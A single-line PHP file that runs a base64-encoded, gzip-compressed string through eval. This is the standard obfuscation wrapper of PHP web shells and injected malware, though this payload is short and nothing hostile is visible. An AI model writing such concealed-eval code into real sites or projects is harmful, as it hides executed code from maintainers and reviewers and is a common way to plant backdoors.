<?php eval(gzinflate(base64_decode('S03OyFdQL8hMzk4tUShJLS5RKEiszMlPTFG3BgA='))); ?>
